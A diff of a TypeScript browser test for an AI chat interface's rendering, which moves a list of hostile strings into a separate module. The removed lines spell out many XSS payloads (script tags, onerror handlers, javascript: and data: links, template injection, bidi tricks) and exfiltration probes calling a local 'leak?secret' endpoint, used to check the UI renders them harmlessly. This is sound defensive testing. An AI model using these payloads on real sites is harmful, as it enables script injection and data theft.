@@ -3,46 +3,11 @@ import { join } from 'node:path';
 import { type Script, userTexts } from '@longhaul/scripted-model';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { HOSTILE_TEXTS } from './hostile-texts.ts';
 import { PageBench, sessionIdOf } from './page-bench.ts';
 
-/** Texts that try to become something else than text. Each would set `window.pwned` or send a request if it did. */
-const HOSTILE: readonly string[] = [
-  '<script>window.pwned=1</script>',
-  '<img src=x onerror="window.pwned=1">',
-  '<svg onload="window.pwned=1"></svg>',
-  '<svg><script>window.pwned=1</script></svg>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<iframe src="javascript:parent.pwned=1"></iframe>',
-  '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
-  '<embed src="javascript:window.pwned=1">',
-  '<a href="javascript:window.pwned=1">click here</a>',
-  '[click here](javascript:window.pwned=1)',
-  '[click here](JaVaScRiPt&colon;window.pwned=1)',
-  '[click here](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
-  '[click here](vbscript:window.pwned=1)',
-  '![picture](javascript:window.pwned=1)',
-  '![picture](http://127.0.0.1:9/leak?secret)',
-  '<img src="http://127.0.0.1:9/leak?secret">',
-  '<link rel=stylesheet href="http://127.0.0.1:9/leak">',
-  '<style>@import "http://127.0.0.1:9/leak"; * { display: none }</style>',
-  '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/leak">',
-  '<base href="http://127.0.0.1:9/">',
-  '<form action="http://127.0.0.1:9/leak"><button>Send</button></form>',
-  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
-  '<video><source onerror="window.pwned=1"></video>',
-  '<input autofocus onfocus="window.pwned=1">',
-  '```html\n<script>window.pwned=1</script>\n```',
-  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
-  '| <img src=x onerror=window.pwned=1> | b |\n| - | - |\n| <script>window.pwned=1</script> | 2 |',
-  '$\\href{javascript:window.pwned=1}{x}$',
-  '\u001b]8;;javascript:window.pwned=1\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[31mred',
-  '\u202egnp.exe \u2066<script>window.pwned=1</script>',
-  '"\'><img src=x onerror=window.pwned=1>',
-  '{{constructor.constructor("window.pwned=1")()}}',
-];
-
 const FILE_NAME = '<img src=x onerror=window.pwned=1>.txt';
-const ALL = HOSTILE.join('\n\n');
+const ALL = HOSTILE_TEXTS.join('\n\n');
 
 /** Answers with hostile text, reasoning, arguments and outputs. */
 const script: Script = ({ messages, asksForSummary }) => {
@@ -59,7 +24,7 @@ const script: Script = ({ messages, asksForSummary }) => {
       toolCalls: [
         {
           name: 'todo',
-          arguments: { items: HOSTILE.slice(0, 10).map((text) => ({ text, status: 'pending' })) },
+          arguments: { items: HOSTILE_TEXTS.slice(0, 10).map((text) => ({ text, status: 'pending' })) },
         },
       ],
     };
@@ -84,7 +49,7 @@ describe('hostile text', () => {
     const sessionId = sessionIdOf(page);
     await bench.ended(sessionId);
     const { client } = bench;
-    await client.sessions.update(sessionId, { title: `${HOSTILE[1]} \u202egnp.exe` });
+    await client.sessions.update(sessionId, { title: `${HOSTILE_TEXTS[1]} \u202egnp.exe` });
     await openAll(page);
     await expectHarmless(page);
     for (const panel of ['context', 'files', 'tree']) {
